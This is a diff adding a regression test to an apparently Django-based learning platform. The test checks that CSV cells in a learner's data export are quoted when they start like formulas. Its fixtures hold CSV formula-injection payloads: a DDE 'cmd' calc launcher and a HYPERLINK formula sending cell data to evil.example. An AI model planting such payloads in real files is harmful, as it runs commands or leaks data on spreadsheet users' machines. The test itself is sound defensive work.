@@ -102,6 +102,41 @@ def test_a_learner_exports_their_data_once_as_a_zip_built_by_a_worker(worker, se
     assert client.get(reverse("accounts:export-download", args=[export.pk])).status_code == 404
 
 
+@pytest.mark.worker
+def test_the_export_built_by_the_worker_has_no_csv_cell_a_spreadsheet_would_run(worker):
+    """A synced name gave `=cmd|' /C calc'!A0` in profile.csv and a lesson title `=HYPERLINK(...)`
+    in the lesson CSVs (issue 12): every cell that starts like a formula is quoted."""
+    import csv
+
+    from config.csvsafe import FORMULA_STARTS
+    from courses.models import LessonProgress
+    from tests.factories import LessonFactory, ModuleFactory
+
+    learner = UserFactory(full_name="=cmd|' /C calc'!A0", external_id="-1+cmd|' /C calc'!A0")
+    submission = _graded_submission(learner)
+    lesson = LessonFactory(module=ModuleFactory(course=submission.assignment.course),
+                           title='=HYPERLINK("http://evil.example/?x="&A1,"Open")')  # fmt: skip
+    LessonProgress.objects.create(user=learner, lesson=lesson, completed_at=timezone.now())
+    client = Client()
+    client.force_login(learner)
+    client.post(reverse("accounts:export-request"))
+    export = wait_for(
+        lambda: DataExport.objects.filter(user=learner, status="ready").first(), timeout=90, message="export ready"
+    )
+    response = client.get(reverse("accounts:export-download", args=[export.pk]))
+    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
+    cells = {
+        name: [c for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))) for c in row]
+        for name in archive.namelist()
+        if name.endswith(".csv")
+    }
+    assert {n: [c for c in v if c.startswith(FORMULA_STARTS)] for n, v in cells.items()} == dict.fromkeys(cells, [])
+    assert "'=cmd|' /C calc'!A0" in cells["profile.csv"] and "'-1+cmd|' /C calc'!A0" in cells["profile.csv"]
+    assert "'" + lesson.title in cells["lesson_progress.csv"]
+    # The JSON files keep the values exactly as stored.
+    assert json.loads(archive.read("profile.json"))[0]["full_name"] == "=cmd|' /C calc'!A0"
+
+
 @pytest.mark.django_db
 def test_the_export_task_does_nothing_for_an_export_no_longer_pending():
     export = DataExport.objects.create(user=UserFactory(), status="failed")
